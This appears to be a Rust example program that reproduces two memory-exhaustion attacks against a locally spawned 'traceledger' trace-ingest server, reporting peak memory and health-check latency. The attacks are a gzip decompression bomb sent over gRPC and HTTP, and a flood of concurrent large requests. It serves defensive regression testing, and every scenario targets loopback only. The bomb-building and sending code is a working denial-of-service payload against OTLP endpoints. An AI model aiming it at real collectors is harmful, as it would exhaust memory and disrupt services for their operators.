//! Reproduces the ingest memory attacks of issue 9 (findings 2 and 3) against a real
//! `traceledger serve` process on 127.0.0.1 and reports, per scenario, the server's peak
//! RSS (VmHWM from /proc/<pid>/status), the slowest `/healthz` answer during the attack
//! and the statuses the attack got. Every scenario starts a fresh server on a fresh
//! temporary data directory, sends a bounded number of requests to loopback only, and
//! stops the server.
//!
//! ```sh
//! scripts/attack-ingest.sh                       # builds release, runs every scenario
//! cargo run --release --example attack_ingest -- --bin target/release/traceledger [SCENARIO...]
//! ```
//! Scenarios: `grpc-bomb-x1`, `grpc-bomb-x4` (16 KB of gzip inflating to 16 MiB of empty
//! spans, sent over gRPC without a key), `http-bomb-x1`, `http-bomb-x4` (the same over
//! HTTP with an ingest key), `flood-80` (80 concurrent 1.6 MB requests of real RAG spans)
//! and `flood-80-queue-2` (the same with `--queue-depth 2`).

use std::io::Write;
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
use prost::Message;
use tonic::codegen::{http, Bytes, Service};

const ALL: &[&str] = &[
    "grpc-bomb-x1",
    "grpc-bomb-x4",
    "http-bomb-x1",
    "http-bomb-x4",
    "flood-80",
    "flood-80-queue-2",
];

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|listener| listener.local_addr())
        .map(|addr| addr.port())
        .expect("a free loopback port")
}

struct Server {
    child: Child,
    http: SocketAddr,
    grpc: SocketAddr,
    key: String,
    _dir: tempfile::TempDir,
}

impl Server {
    fn start(bin: &Path, extra: &[&str]) -> Server {
        let dir = tempfile::tempdir().expect("tempdir");
        let data = dir.path().join("data");
        let http = SocketAddr::from(([127, 0, 0, 1], free_port()));
        let grpc = SocketAddr::from(([127, 0, 0, 1], free_port()));
        let output = Command::new(bin)
            .args(["keys", "create", "--data-dir"])
            .arg(&data)
            .args(["--tenant", "default", "--scope", "ingest"])
            .env("TRACELEDGER_LOG", "warn")
            .output()
            .expect("run traceledger keys create");
        assert!(output.status.success(), "keys create failed: {output:?}");
        let key = String::from_utf8_lossy(&output.stdout).trim().to_owned();
        let child = Command::new(bin)
            .arg("serve")
            .arg("--data-dir")
            .arg(&data)
            .args(["--listen", &http.to_string(), "--grpc-listen", &grpc.to_string()])
            .args(extra)
            .env("TRACELEDGER_LOG", "warn")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start traceledger serve");
        Server {
            child,
            http,
            grpc,
            key,
            _dir: dir,
        }
    }

    fn peak_rss_kib(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap_or_default();
        status
            .lines()
            .find_map(|line| line.strip_prefix("VmHWM:"))
            .and_then(|value| value.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap_or(0)
    }

    fn stop(mut self) {
        let _ = Command::new("kill").arg(self.child.id().to_string()).status();
        let _ = self.child.wait();
    }
}

async fn wait_healthy(client: &reqwest::Client, server: &Server) {
    for _ in 0..600 {
        if let Ok(response) = client.get(format!("http://{}/healthz", server.http)).send().await {
            if response.status().is_success() {
                return;
            }
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("server did not become healthy");
}

/// Polls `/healthz` every 20 ms until stopped; returns the slowest answer.
fn probe_health(client: reqwest::Client, addr: SocketAddr, stop: Arc<AtomicBool>) -> tokio::task::JoinHandle<Duration> {
    tokio::spawn(async move {
        let mut slowest = Duration::ZERO;
        while !stop.load(Ordering::SeqCst) {
            let started = Instant::now();
            let _ = client.get(format!("http://{addr}/healthz")).send().await;
            slowest = slowest.max(started.elapsed());
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        slowest
    })
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).expect("gzip");
    encoder.finish().expect("gzip")
}

fn varint(mut value: usize, out: &mut Vec<u8>) {
    while value >= 0x80 {
        out.push((value as u8 & 0x7f) | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
}

/// Just under 16 MiB of empty spans (`12 00` repeated inside one `ScopeSpans` of one
/// `ResourceSpans`), which decode to ~130 times their size, gzipped to about 16 KB.
fn bomb() -> Vec<u8> {
    let spans = [0x12, 0x00].repeat(8 * 1024 * 1024 - 16);
    let mut scope_spans = vec![0x12];
    varint(spans.len(), &mut scope_spans);
    scope_spans.extend_from_slice(&spans);
    let mut request = vec![0x0a];
    varint(scope_spans.len(), &mut request);
    request.extend_from_slice(&scope_spans);
    gzip(&request)
}

async fn grpc_bomb(addr: SocketAddr, compressed: Vec<u8>) -> String {
    let mut channel = match tonic::transport::Channel::from_shared(format!("http://{addr}")) {
        Ok(endpoint) => match endpoint.connect().await {
            Ok(channel) => channel,
            Err(error) => return format!("connect error: {error}"),
        },
        Err(error) => return format!("bad address: {error}"),
    };
    let mut frame = vec![1u8];
    frame.extend_from_slice(&(compressed.len() as u32).to_be_bytes());
    frame.extend_from_slice(&compressed);
    let request = http::Request::builder()
        .method("POST")
        .uri(format!(
            "http://{addr}/opentelemetry.proto.collector.trace.v1.TraceService/Export"
        ))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("grpc-encoding", "gzip")
        .body(tonic::body::Body::new(http_body_util::Full::new(Bytes::from(frame))))
        .expect("request");
    if std::future::poll_fn(|cx| channel.poll_ready(cx)).await.is_err() {
        return "channel error".into();
    }
    let response = match channel.call(request).await {
        Ok(response) => response,
        Err(error) => return format!("call error: {error}"),
    };
    let (parts, body) = response.into_parts();
    if let Some(status) = tonic::Status::from_header_map(&parts.headers) {
        return format!("{:?}", status.code());
    }
    use http_body_util::BodyExt;
    match body.collect().await {
        Ok(collected) => collected
            .trailers()
            .and_then(tonic::Status::from_header_map)
            .map(|status| format!("{:?}", status.code()))
            .unwrap_or_else(|| "no status".into()),
        Err(status) => format!("{:?}", status.code()),
    }
}

async fn http_post(client: reqwest::Client, addr: SocketAddr, key: String, body: Vec<u8>, gzip: bool) -> String {
    let mut request = client
        .post(format!("http://{addr}/v1/traces"))
        .bearer_auth(&key)
        .header("Content-Type", "application/x-protobuf")
        .body(body);
    if gzip {
        request = request.header("Content-Encoding", "gzip");
    }
    match request.send().await {
        Ok(response) => response.status().as_u16().to_string(),
        Err(error) => format!("error: {error}"),
    }
}

/// A ~1.6 MB request of real RAG spans: 225 copies of the `a_rag_semconv` fixture trace
/// (1350 spans), ids from `seed`, as `benches/ingest.rs` sends them.
fn flood_request(template: &ExportTraceServiceRequest, seed: u32) -> Vec<u8> {
    let mut request = ExportTraceServiceRequest {
        resource_spans: Vec::new(),
    };
    for trace in 0..225u32 {
        let mut copy = template.resource_spans[0].clone();
        let mut trace_id = [0u8; 16];
        trace_id[..4].copy_from_slice(&seed.to_be_bytes());
        trace_id[4..8].copy_from_slice(&(trace + 1).to_be_bytes());
        for scope in &mut copy.scope_spans {
            for span in &mut scope.spans {
                span.trace_id = trace_id.to_vec();
            }
        }
        request.resource_spans.push(copy);
    }
    request.encode_to_vec()
}

fn flood_template() -> ExportTraceServiceRequest {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/fixtures/a_rag_semconv/1.pb");
    let bytes = std::fs::read(path).expect("fixture a_rag_semconv/1.pb");
    ExportTraceServiceRequest::decode(bytes.as_slice()).expect("fixture decodes")
}

struct Outcome {
    scenario: String,
    peak_rss_mib: f64,
    slowest_healthz_ms: u128,
    elapsed_ms: u128,
    statuses: String,
}

async fn run(bin: &Path, scenario: &str) -> Outcome {
    let extra: &[&str] = if scenario == "flood-80-queue-2" {
        &["--queue-depth", "2"]
    } else {
        &[]
    };
    let server = Server::start(bin, extra);
    let client = reqwest::Client::new();
    wait_healthy(&client, &server).await;
    let stop = Arc::new(AtomicBool::new(false));
    let probe = probe_health(client.clone(), server.http, stop.clone());
    let started = Instant::now();
    let mut tasks = Vec::new();
    match scenario {
        "grpc-bomb-x1" | "grpc-bomb-x4" => {
            let copies = if scenario.ends_with("x4") { 4 } else { 1 };
            let payload = bomb();
            for _ in 0..copies {
                let payload = payload.clone();
                let addr = server.grpc;
                tasks.push(tokio::spawn(async move { grpc_bomb(addr, payload).await }));
            }
        }
        "http-bomb-x1" | "http-bomb-x4" => {
            let copies = if scenario.ends_with("x4") { 4 } else { 1 };
            let payload = bomb();
            for _ in 0..copies {
                let request = http_post(client.clone(), server.http, server.key.clone(), payload.clone(), true);
                tasks.push(tokio::spawn(request));
            }
        }
        _ => {
            let template = flood_template();
            for seed in 0..80u32 {
                let body = flood_request(&template, seed + 1);
                let request = http_post(client.clone(), server.http, server.key.clone(), body, false);
                tasks.push(tokio::spawn(request));
            }
        }
    }
    let mut counts = std::collections::BTreeMap::<String, usize>::new();
    for task in tasks {
        let status = task.await.unwrap_or_else(|error| format!("task error: {error}"));
        *counts.entry(status).or_default() += 1;
    }
    let elapsed_ms = started.elapsed().as_millis();
    stop.store(true, Ordering::SeqCst);
    let slowest = probe.await.unwrap_or_default();
    let peak = server.peak_rss_kib();
    server.stop();
    Outcome {
        scenario: scenario.to_owned(),
        peak_rss_mib: peak as f64 / 1024.0,
        slowest_healthz_ms: slowest.as_millis(),
        elapsed_ms,
        statuses: counts
            .iter()
            .map(|(status, count)| format!("{count}x {status}"))
            .collect::<Vec<_>>()
            .join(", "),
    }
}

#[tokio::main]
async fn main() {
    let mut bin = PathBuf::from("target/release/traceledger");
    let mut scenarios = Vec::new();
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        if arg == "--bin" {
            bin = PathBuf::from(args.next().expect("--bin PATH"));
        } else {
            scenarios.push(arg);
        }
    }
    if scenarios.is_empty() {
        scenarios = ALL.iter().map(|name| (*name).to_owned()).collect();
    }
    println!("| scenario | peak RSS (MiB) | slowest /healthz (ms) | attack took (ms) | answers |");
    println!("|---|---|---|---|---|");
    for scenario in &scenarios {
        assert!(
            ALL.contains(&scenario.as_str()),
            "unknown scenario {scenario}; one of {ALL:?}"
        );
        let outcome = run(&bin, scenario).await;
        println!(
            "| {} | {:.0} | {} | {} | {} |",
            outcome.scenario, outcome.peak_rss_mib, outcome.slowest_healthz_ms, outcome.elapsed_ms, outcome.statuses
        );
    }
}
